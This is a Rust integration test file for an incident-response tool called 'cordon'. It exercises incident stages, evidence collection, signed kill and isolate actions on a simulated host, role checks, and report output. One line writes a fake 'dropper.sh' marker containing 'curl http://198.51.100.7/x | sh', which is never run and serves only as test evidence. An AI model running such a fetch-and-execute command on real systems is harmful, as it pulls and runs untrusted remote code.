//! Incidents end to end, driven through the real `cordon` CLI: opened by hand, moved through
//! the stages (illegal moves refused with the rule that refused them), assigned, escalated,
//! commented, given hosts, with a real agent's tasks, evidence and a signed kill attached and
//! showing on the timeline as they end; closing refused while a host is still isolated and
//! allowed once it is released; the report (Markdown and JSON) listing hosts, timeline,
//! evidence with hashes, actions with signers and verified receipts, and containment still
//! active; roles; and a controller restart losing nothing.
//!
//! The isolation runs on a simulated host: an agent enrolled for real, holding a real mTLS
//! session, that reports a policy trusting the responder's key for isolate/release and answers
//! the signed envelope with a receipt signed by its own pinned key — but touches no firewall.
//! The real agent's isolation would run `nft` on this machine's own ruleset (its firewall
//! tests only ever run inside throwaway network namespaces), which a test must not do. So
//! the controller's whole signed-action path and the incident's containment rule run for real
//! here; the agent's nftables side is covered by its own netns tests.

use std::time::{Duration, Instant};

use cordon_api::{
    actions::{ActionState, ActionView},
    incidents::IncidentView,
    tasks::TaskView,
    tokens::ApiTokenCreated,
};
use cordon_controller::incidents::report::IncidentReport;
use cordon_protocol::{
    action::{Action, ActionKind, PolicySummary, SignedAction, SignerSummary},
    message::{AgentMessage, TaskError, TaskErrorCode, TaskKind, TaskOutput, TaskResult},
};
use cordon_tests::{
    fails, generate_key, json_of, ok,
    simaction::{check_signed, signed_receipt},
    Deployment, PgSchema, ResponderKey, SessionHost, Victim,
};
use ed25519_dalek::{SigningKey, VerifyingKey};
use serde_json::json;

/// A host that holds a real session and answers isolate/release with receipts signed by its
/// own (pinned) key, acting on nothing. Every other task is answered `unsupported`.
async fn sim_host(
    deployment: &Deployment,
    trusted: &ResponderKey,
    signer_name: &str,
) -> SessionHost {
    let policy = PolicySummary {
        signers: vec![SignerSummary {
            name: signer_name.into(),
            key_id: trusted.id.clone(),
            actions: vec![ActionKind::Isolate, ActionKind::Release],
            max_ttl_secs: 3600,
        }],
        required_signers: vec![],
        signed_reads: false,
    };
    let trusted = trusted.public();
    SessionHost::start(
        deployment,
        |hello| hello.inventory.action_policy = policy,
        move |agent_id, task| {
            let mut replies = Vec::new();
            let outcome = match task.kind {
                TaskKind::Action(signed) => {
                    replies.push(AgentMessage::TaskStarted {
                        task_id: task.task_id.clone(),
                    });
                    let key = cordon_tests::simulated_signing_key(agent_id);
                    answer(agent_id, &key, &trusted, &signed)
                }
                _ => Err(TaskError {
                    code: TaskErrorCode::Unsupported,
                    message: "simulated host".into(),
                }),
            };
            replies.push(AgentMessage::TaskResult(TaskResult {
                task_id: task.task_id,
                outcome,
            }));
            replies
        },
    )
    .await
}

/// The simulated host's answer: the signature checked as an agent checks it, then a receipt.
fn answer(
    agent_id: &str,
    key: &SigningKey,
    trusted: &VerifyingKey,
    signed: &SignedAction,
) -> Result<TaskOutput, TaskError> {
    check_signed(agent_id, trusted, signed)?;
    let (before, done, after) = match &signed.request.action {
        Action::Isolate { ttl_secs } => (
            r#"{"isolated":false}"#.to_owned(),
            format!("isolated the host for {ttl_secs} s (simulated: no firewall touched)"),
            r#"{"isolated":true}"#.to_owned(),
        ),
        Action::Release => (
            r#"{"isolated":true}"#.to_owned(),
            "released the host (simulated)".to_owned(),
            r#"{"isolated":false}"#.to_owned(),
        ),
        other => {
            return Err(TaskError {
                code: TaskErrorCode::Unsupported,
                message: format!("simulated host: {other:?}"),
            })
        }
    };
    signed_receipt(agent_id, key, signed, before, done, after)
}

/// Queues a task through the API (not waiting for it).
async fn queue_task(deployment: &Deployment, agent_id: &str, task: serde_json::Value) -> TaskView {
    deployment
        .api()
        .post_json(
            "/api/v1/tasks",
            json!({ "agent_id": agent_id, "task": task }),
        )
        .await
        .expect("task created")
}

async fn show(deployment: &Deployment, id: &str) -> IncidentView {
    json_of(
        &deployment
            .run_cli(&["--json", "incidents", "show", id])
            .await,
    )
}

fn kinds(view: &IncidentView) -> Vec<String> {
    view.timeline.iter().map(|t| t.kind.clone()).collect()
}

/// Shows the incident until its timeline has an entry of `kind` (derived entries appear as
/// the things attached end).
async fn wait_for_entry(deployment: &Deployment, id: &str, kind: &str) -> IncidentView {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let view = show(deployment, id).await;
        if view.timeline.iter().any(|t| t.kind == kind) {
            return view;
        }
        assert!(
            Instant::now() < deadline,
            "no {kind} on the timeline: {:?}",
            kinds(&view)
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

async fn move_to(deployment: &Deployment, id: &str, stage: &str) {
    ok(&deployment.run_cli(&["incidents", "stage", id, stage]).await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_incident_from_open_to_closed_through_the_cli() {
    let mut deployment = Deployment::start().await;
    open_to_closed(&mut deployment).await;
}

/// The same on the PostgreSQL store (skipped loudly without `CORDON_TEST_DATABASE_URL`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_incident_from_open_to_closed_on_postgres() {
    let Some(schema) = PgSchema::create("an_incident_from_open_to_closed_on_postgres").await else {
        return;
    };
    let mut deployment = Deployment::start_with_database(Some(schema.url())).await;
    open_to_closed(&mut deployment).await;
    deployment.stop_controller().await;
    schema.drop().await;
}

/// Opened by hand, through every stage to closed, with a real agent and a simulated host, the
/// report at remediation and at the end, and a controller restart.
async fn open_to_closed(deployment: &mut Deployment) {
    let keys_dir = tempfile::tempdir().expect("keys dir");
    let alice = generate_key(keys_dir.path(), "alice");

    // A real agent that trusts alice to kill.
    let mut agent = deployment.enroll_agent().await;
    cordon_agent::trust::add(
        agent.data_dir(),
        &cordon_agent::trust::AddOptions {
            public_key_file: &alice.public_file,
            actions: "kill",
            max_ttl: Some("10m"),
            name: Some("alice"),
        },
    )
    .expect("trust add");
    agent.start();
    deployment.wait_for_inventory(&agent.id).await;

    // Open it.
    let created: IncidentView = json_of(
        &deployment
            .run_cli(&[
                "--json",
                "incidents",
                "create",
                "--title",
                "beacon | from web-1",
                "--kind",
                // No default playbook is written for this kind: what happens is what the test
                // does.
                "c2-test",
                "--severity",
                "high",
                "--agent",
                &agent.id,
                "--label",
                "env=test",
                "--description",
                "seen by the proxy\n# twice",
            ])
            .await,
    );
    let id = created.incident.id.clone();
    assert_eq!(created.incident.stage, "alert");
    assert_eq!(created.incident.severity, "high");
    assert_eq!(created.incident.labels, vec!["env=test".to_owned()]);
    assert_eq!(created.hosts.len(), 1);
    assert_eq!(created.hosts[0].agent_id, agent.id);
    // A table for people, too.
    let listed = ok(&deployment.run_cli(&["incidents", "list", "--open"]).await);
    assert!(
        listed.contains(&id) && listed.contains("beacon | from web-1"),
        "{listed}"
    );
    let by_agent = ok(&deployment
        .run_cli(&["incidents", "list", "--agent", &agent.id])
        .await);
    assert!(by_agent.contains(&id), "{by_agent}");
    let none_in_response = ok(&deployment
        .run_cli(&["incidents", "list", "--stage", "response"])
        .await);
    assert_eq!(none_in_response, "no incidents\n");

    // Stages: forward, then the illegal moves refused, naming the rule.
    ok(&deployment
        .run_cli(&[
            "incidents",
            "stage",
            &id,
            "assessment",
            "--reason",
            "triage",
        ])
        .await);
    let back = deployment
        .run_cli(&["incidents", "stage", &id, "alert"])
        .await;
    let err = fails(&back, 1);
    assert!(err.contains("cannot move back to alert"), "{err}");
    let unknown = deployment
        .run_cli(&["incidents", "stage", &id, "triage"])
        .await;
    assert!(fails(&unknown, 2).contains("unknown stage"), "{unknown:?}");
    let missing = deployment
        .run_cli(&["incidents", "stage", "no-such-incident", "analysis"])
        .await;
    assert!(fails(&missing, 4).contains("no incident no-such-incident"));
    move_to(deployment, &id, "collection").await;

    // Collection: a processes task attached while it runs shows its end on the timeline; a
    // fetched file and a snapshot (attached by hash) are evidence.
    let processes = queue_task(deployment, &agent.id, json!({ "type": "processes" })).await;
    ok(&deployment
        .run_cli(&["incidents", "attach", &id, "--task", &processes.id])
        .await);
    let view = wait_for_entry(deployment, &id, "task.done").await;
    let done = view
        .timeline
        .iter()
        .find(|t| t.kind == "task.done")
        .expect("task.done");
    assert_eq!(done.actor, agent.id);
    assert_eq!(done.detail["task_id"], processes.id.as_str());
    let marker_dir = tempfile::tempdir().expect("marker dir");
    let marker = marker_dir.path().join("dropper.sh");
    let dropper: &[u8] = b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n";
    std::fs::write(&marker, dropper).expect("marker");
    let fetch = deployment
        .run_task(
            &agent.id,
            json!({ "type": "fetch_file", "path": marker.to_str().expect("utf-8 path") }),
        )
        .await;
    assert_eq!(fetch.state.as_str(), "done", "{fetch:?}");
    ok(&deployment
        .run_cli(&["incidents", "attach", &id, "--task", &fetch.id])
        .await);
    let snapshot = deployment
        .run_task(&agent.id, json!({ "type": "snapshot" }))
        .await;
    let snapshot_sha = snapshot.result.as_ref().expect("snapshot result")["sha256"]
        .as_str()
        .expect("sha256")
        .to_owned();
    ok(&deployment
        .run_cli(&["incidents", "attach", &id, "--evidence", &snapshot_sha])
        .await);
    let view = wait_for_entry(deployment, &id, "evidence.stored").await;
    assert!(kinds(&view).iter().filter(|k| *k == "task").count() == 2);
    assert!(kinds(&view).contains(&"evidence".to_owned()));
    // Attaching what does not exist: not found.
    let bogus = deployment
        .run_cli(&["incidents", "attach", &id, "--task", "no-such-task"])
        .await;
    assert!(fails(&bogus, 4).contains("no task no-such-task"));

    for stage in ["analysis", "escalation", "response"] {
        move_to(deployment, &id, stage).await;
    }

    // Assign, escalate, comment.
    ok(&deployment
        .run_cli(&["incidents", "assign", &id, "alice"])
        .await);
    let escalated: IncidentView = json_of(
        &deployment
            .run_cli(&[
                "--json",
                "incidents",
                "escalate",
                &id,
                "--to",
                "ir-team",
                "--reason",
                "needs forensics",
            ])
            .await,
    );
    assert_eq!(escalated.incident.tier, 2);
    assert_eq!(escalated.incident.escalated_to.as_deref(), Some("ir-team"));
    assert_eq!(escalated.incident.assignee.as_deref(), Some("alice"));
    ok(&deployment
        .run_cli(&[
            "incidents",
            "comment",
            &id,
            "killed it | line two\nand more",
        ])
        .await);

    // Response: a signed kill of the marker process on the real agent, attached.
    let mut victim = Victim::spawn();
    let killed: ActionView = json_of(
        &deployment
            .run_cli(&[
                "--json",
                "kill",
                "--agent",
                &agent.id,
                "--pid",
                &victim.pid_arg(),
                "--key",
                alice.file.to_str().expect("utf-8"),
            ])
            .await,
    );
    assert_eq!(killed.state, ActionState::Done, "{killed:?}");
    assert!(victim.exited_within(Duration::from_secs(10)));
    ok(&deployment
        .run_cli(&["incidents", "attach", &id, "--action", &killed.id])
        .await);

    // A second host, isolated with alice's key (simulated host; see the module docs).
    let sim = sim_host(deployment, &alice, "alice").await;
    ok(&deployment
        .run_cli(&["incidents", "hosts", "add", &id, &sim.id])
        .await);
    let isolated: ActionView = json_of(
        &deployment
            .run_cli(&[
                "--json",
                "isolate",
                "--agent",
                &sim.id,
                "--ttl",
                "30m",
                "--key",
                alice.file.to_str().expect("utf-8"),
            ])
            .await,
    );
    assert_eq!(isolated.state, ActionState::Done, "{isolated:?}");
    assert!(isolated.receipt.is_some());

    // Closing: from response only when forced with a reason; with the host isolated, not
    // even from remediation.
    let early = deployment.run_cli(&["incidents", "close", &id]).await;
    let err = fails(&early, 1);
    assert!(err.contains("skips remediation"), "{err}");
    assert!(err.contains("--force --reason"), "{err}");
    let silent = deployment
        .run_cli(&["incidents", "close", &id, "--force"])
        .await;
    assert!(fails(&silent, 1).contains("forcing a move needs a reason"));
    let fp = deployment
        .run_cli(&["incidents", "close", &id, "--false-positive"])
        .await;
    assert!(fails(&fp, 1).contains("cannot be a false positive"));
    move_to(deployment, &id, "investigation").await;
    move_to(deployment, &id, "remediation").await;
    let contained = deployment.run_cli(&["incidents", "close", &id]).await;
    let err = fails(&contained, 1);
    assert!(
        err.contains("containment is still active")
            && err.contains(&sim.id)
            && err.contains("isolated"),
        "{err}"
    );
    let shown = ok(&deployment.run_cli(&["incidents", "show", &id]).await);
    assert!(shown.contains("containment still active:"), "{shown}");
    assert!(shown.contains(&isolated.id), "{shown}");
    // The comment keeps to one line of the table.
    assert!(shown.contains("killed it | line two\\nand more"), "{shown}");

    // The report while the host is isolated: JSON.
    let report: IncidentReport = json_of(
        &deployment
            .run_cli(&["--json", "incidents", "report", &id])
            .await,
    );
    assert_eq!(report.summary.id, id);
    assert_eq!(report.summary.stage, "remediation");
    assert_eq!(report.summary.tier, 2);
    assert_eq!(report.summary.assignee.as_deref(), Some("alice"));
    let host_ids: Vec<&str> = report.hosts.iter().map(|h| h.agent_id.as_str()).collect();
    assert_eq!(host_ids, vec![agent.id.as_str(), sim.id.as_str()]);
    assert!(report
        .hosts
        .iter()
        .all(|h| h.status == Some(cordon_api::agents::AgentStatus::Online)));
    assert_eq!(report.active_containment.len(), 1);
    assert_eq!(report.active_containment[0].what, "isolated");
    assert_eq!(report.active_containment[0].action_id, isolated.id);
    // Evidence: the fetched file (with its path) and the snapshot, both still verifying.
    let file = report
        .evidence
        .iter()
        .find(|e| e.kind == "file")
        .expect("file evidence");
    assert_eq!(file.source_path.as_deref(), marker.to_str());
    assert_eq!(file.task_id, fetch.id);
    assert_eq!(file.size, i64::try_from(dropper.len()).expect("small"));
    assert!(report.evidence.iter().any(|e| e.sha256 == snapshot_sha));
    assert!(
        report.evidence.iter().all(|e| e.verified),
        "{:?}",
        report.evidence
    );
    // Actions: the attached kill and the isolation still in force, with signer and receipt.
    let ours: Vec<_> = report
        .actions
        .iter()
        .filter(|a| a.id == killed.id || a.id == isolated.id)
        .collect();
    assert_eq!(ours.len(), 2, "{:?}", report.actions);
    for action in ours {
        assert_eq!(action.state, "done");
        assert_eq!(action.signers.len(), 1);
        assert_eq!(action.signers[0].name, "alice");
        assert_eq!(action.signers[0].key_id, alice.id);
        let receipt = action.receipt.as_ref().expect("receipt");
        assert!(receipt.signature_verified, "{receipt:?}");
    }
    let kill = report
        .actions
        .iter()
        .find(|a| a.id == killed.id)
        .expect("the kill");
    assert!(kill.what.starts_with(&format!("kill pid {}", victim.pid())));
    let timeline_kinds: Vec<&str> = report.timeline.iter().map(|t| t.kind.as_str()).collect();
    for kind in [
        "created",
        "stage",
        "task",
        "task.done",
        "evidence.stored",
        "evidence",
        "assigned",
        "escalated",
        "comment",
        "action",
        "action.done",
        "hosts",
    ] {
        assert!(
            timeline_kinds.contains(&kind),
            "{kind} missing: {timeline_kinds:?}"
        );
    }

    // Markdown, to a file.
    let out_file = marker_dir.path().join("report.md");
    let written = ok(&deployment
        .run_cli(&[
            "incidents",
            "report",
            &id,
            "--out",
            out_file.to_str().expect("utf-8"),
        ])
        .await);
    assert!(written.contains("written to"), "{written}");
    let again = deployment
        .run_cli(&[
            "incidents",
            "report",
            &id,
            "--out",
            out_file.to_str().expect("utf-8"),
        ])
        .await;
    assert!(fails(&again, 2).contains("already exists"));
    let md = std::fs::read_to_string(&out_file).expect("report file");
    assert!(
        md.starts_with("# Incident report: beacon \\| from web-1\n"),
        "{md}"
    );
    for part in [
        "## Hosts",
        "## Containment still active",
        "## Timeline",
        "## Evidence",
        "## Actions",
        &format!("| `{}` |", agent.id),
        &format!("| `{snapshot_sha}` |"),
        &format!("`{}`", isolated.id),
        &format!("alice (key `{}`)", alice.id),
        ": signature verified",
        "killed it \\| line two<br>and more",
        "> \\# twice",
    ] {
        assert!(md.contains(part), "{part:?} missing:\n{md}");
    }

    // Released: now it closes.
    let released: ActionView = json_of(
        &deployment
            .run_cli(&[
                "--json",
                "release",
                "--agent",
                &sim.id,
                "--key",
                alice.file.to_str().expect("utf-8"),
            ])
            .await,
    );
    assert_eq!(released.state, ActionState::Done, "{released:?}");
    let closed: IncidentView = json_of(
        &deployment
            .run_cli(&[
                "--json",
                "incidents",
                "close",
                &id,
                "--reason",
                "cleaned up",
            ])
            .await,
    );
    assert_eq!(closed.incident.stage, "closed");
    assert!(closed.incident.closed_at_ms.is_some());
    assert!(closed.active_containment.is_empty());
    let closed_md = ok(&deployment.run_cli(&["incidents", "report", &id]).await);
    assert!(
        closed_md.contains("None: no host is isolated"),
        "{closed_md}"
    );
    assert!(!ok(&deployment.run_cli(&["incidents", "list", "--open"]).await).contains(&id));

    // A restart loses nothing.
    let before = show(deployment, &id).await;
    drop(sim);
    deployment.stop_controller().await;
    deployment.start_controller().await;
    let after = show(deployment, &id).await;
    assert_eq!(after.incident, before.incident);
    assert_eq!(after.hosts, before.hosts);
    assert_eq!(after.links, before.links);
    assert_eq!(after.timeline, before.timeline);
    let entered = |v: &IncidentView| {
        v.stages
            .iter()
            .map(|s| (s.id.clone(), s.stage, s.entered_at_ms))
            .collect::<Vec<_>>()
    };
    assert_eq!(entered(&after), entered(&before));

    agent.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn viewers_read_incidents_and_responders_change_them() {
    let deployment = Deployment::start().await;
    let admin = deployment.api();
    let agent = deployment.enroll_agent().await;
    let mut tokens = Vec::new();
    for role in ["viewer", "responder"] {
        let created: ApiTokenCreated = admin
            .post_json(
                "/api/v1/api-tokens",
                json!({ "name": format!("{role}-1"), "role": role }),
            )
            .await
            .expect("token");
        tokens.push(created.token);
    }
    let (viewer, responder) = (&tokens[0], &tokens[1]);

    // A viewer may not open one.
    let refused = deployment
        .run_cli_as(
            viewer,
            &[
                "incidents",
                "create",
                "--title",
                "t",
                "--kind",
                "roles-test",
            ],
        )
        .await;
    assert!(fails(&refused, 3).contains("forbidden"), "{refused:?}");

    let created: IncidentView = json_of(
        &deployment
            .run_cli_as(
                responder,
                &[
                    "--json",
                    "incidents",
                    "create",
                    "--title",
                    "t",
                    "--kind",
                    "roles-test",
                    "--agent",
                    &agent.id,
                ],
            )
            .await,
    );
    let id = created.incident.id.clone();
    assert_eq!(created.incident.created_by, "responder-1");

    // Every change, refused to the viewer (403 → exit 3), and nothing changed.
    let changes: [&[&str]; 8] = [
        &["incidents", "stage", &id, "assessment"],
        &["incidents", "assign", &id, "bob"],
        &["incidents", "escalate", &id],
        &["incidents", "severity", &id, "critical"],
        &["incidents", "comment", &id, "hi"],
        &["incidents", "close", &id, "--false-positive"],
        &["incidents", "hosts", "add", &id, &agent.id],
        &[
            "incidents",
            "attach",
            &id,
            "--hunt",
            "00000000-0000-4000-8000-000000000001",
        ],
    ];
    for args in changes {
        let out = deployment.run_cli_as(viewer, args).await;
        fails(&out, 3);
    }
    let unchanged: IncidentView = admin
        .get_json(&format!("/api/v1/incidents/{id}"))
        .await
        .expect("readable");
    assert_eq!(unchanged.incident, created.incident);
    assert_eq!(unchanged.timeline, created.timeline);

    // A viewer reads: show, list, report.
    ok(&deployment
        .run_cli_as(viewer, &["incidents", "show", &id])
        .await);
    ok(&deployment.run_cli_as(viewer, &["incidents", "list"]).await);
    let md = ok(&deployment
        .run_cli_as(viewer, &["incidents", "report", &id])
        .await);
    assert!(md.starts_with("# Incident report: t\n"), "{md}");

    // A responder changes it, named on the timeline.
    ok(&deployment
        .run_cli_as(responder, &["incidents", "comment", &id, "on it"])
        .await);
    ok(&deployment
        .run_cli_as(responder, &["incidents", "assign", &id, "bob"])
        .await);
    let unassigned: IncidentView = json_of(
        &deployment
            .run_cli_as(responder, &["--json", "incidents", "assign", &id, "--none"])
            .await,
    );
    assert_eq!(unassigned.incident.assignee, None);
    let comment = unassigned
        .timeline
        .iter()
        .find(|t| t.kind == "comment")
        .expect("comment");
    assert_eq!(comment.actor, "responder-1");
    assert_eq!(comment.summary, "on it");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_report_endpoint_serves_markdown_and_json() {
    let deployment = Deployment::start().await;
    let created: IncidentView = deployment
        .api()
        .post_json(
            "/api/v1/incidents",
            json!({ "title": "a|b\nc", "kind": "report-test", "description": "x" }),
        )
        .await
        .expect("created");
    let id = created.incident.id;

    let api = deployment.api();
    let get = |query: String| {
        let api = &api;
        async move { api.get_text(&format!("/api/v1/incidents/{query}")).await }
    };

    let (status, content_type, body) = get(format!("{id}/report?format=markdown")).await;
    assert_eq!(status, 200);
    assert_eq!(content_type, "text/markdown; charset=utf-8");
    assert!(
        body.starts_with("# Incident report: a\\|b<br>c\n"),
        "{body}"
    );
    assert!(body.contains("No hosts."), "{body}");

    let (status, content_type, body) = get(format!("{id}/report")).await;
    assert_eq!(status, 200);
    assert_eq!(content_type, "application/json");
    let report: IncidentReport = serde_json::from_str(&body).expect("JSON report");
    assert_eq!(report.summary.title, "a|b\nc");
    assert!(report.hosts.is_empty() && report.evidence.is_empty() && report.actions.is_empty());
    assert_eq!(report.timeline[0].kind, "created");

    let (status, _, body) = get(format!("{id}/report?format=pdf")).await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("expected json or markdown"), "{body}");
    let (status, _, body) = get("no-such/report?format=markdown".into()).await;
    assert_eq!(status, 404, "{body}");
    assert!(body.contains("no incident no-such"), "{body}");
}
